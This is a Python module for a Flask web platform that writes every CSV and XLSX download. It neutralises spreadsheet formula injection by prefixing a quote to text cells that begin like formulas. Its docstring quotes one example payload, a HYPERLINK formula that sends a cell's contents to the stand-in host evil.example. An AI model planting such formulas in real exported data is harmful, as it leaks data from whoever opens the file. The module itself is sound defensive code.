"""The one writer of every CSV and XLSX file the platform produces (downloads and demo files).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage
return, whatever follows) as a formula: a bank administrator's chosen display name such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link in the enterprise's
access-log download. Every text cell therefore goes through `safe_cell()`, which prefixes such
a value with `'` (OWASP's "CSV injection" advice). Numbers stay numbers: an int, a Decimal or a
float is written as it is, and so is a text that is only a number (`-12.50`), which a
spreadsheet cannot run.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

from flask import Response

FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")
CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"  # so that Excel opens UTF-8 as UTF-8 (and shows the Chinese)


def safe_cell(value: Any) -> Any:
    """A cell value a spreadsheet will not run: text starting like a formula gets a `'`."""
    if isinstance(value, str):
        if value and value[0] in FORMULA_STARTS and not _PLAIN_NUMBER.match(value):
            return "'" + value
        return value
    if value is None or isinstance(value, int | float | Decimal | date | datetime):
        return value
    return safe_cell(str(value))


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class CsvSheet:
    """Rows to a CSV text stream, every cell neutralised."""

    def __init__(self, stream: IO[str], header: Sequence[Any] | None = None) -> None:
        self._writer = csv.writer(stream)
        if header is not None:
            self.writerow(header)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(["" if v is None else safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class XlsxSheet:
    """Rows to the first sheet of a workbook (openpyxl write-only mode), every cell neutralised.

    openpyxl itself stores a text starting with `=` as a formula, so neutralising is what keeps
    such a value text.
    """

    def __init__(self, title: str, header: Sequence[Any] | None = None) -> None:
        from openpyxl import Workbook

        self._book = Workbook(write_only=True)
        self._sheet = self._book.create_sheet(title[:31])  # Excel's limit on a sheet name
        if header is not None:
            self.writerow(header)

    def writerow(self, row: Iterable[Any]) -> None:
        self._sheet.append(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def save(self, target: Path | IO[bytes]) -> None:
        self._book.save(target)


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV download: UTF-8 with a BOM."""
    out = io.StringIO()
    out.write(BOM)
    CsvSheet(out, header).writerows(rows)
    return out.getvalue().encode("utf-8")


def xlsx_bytes(title: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    sheet = XlsxSheet(title, header)
    sheet.writerows(rows)
    out = io.BytesIO()
    sheet.save(out)
    return out.getvalue()


def _attachment(filename: str) -> dict[str, str]:
    return {"Content-Disposition": f"attachment; filename={filename}"}


def csv_response(filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> Response:
    return Response(csv_bytes(header, rows), mimetype=CSV_MIMETYPE, headers=_attachment(filename))


def xlsx_response(
    filename: str, title: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]
) -> Response:
    return Response(
        xlsx_bytes(title, header, rows), mimetype=XLSX_MIMETYPE, headers=_attachment(filename)
    )
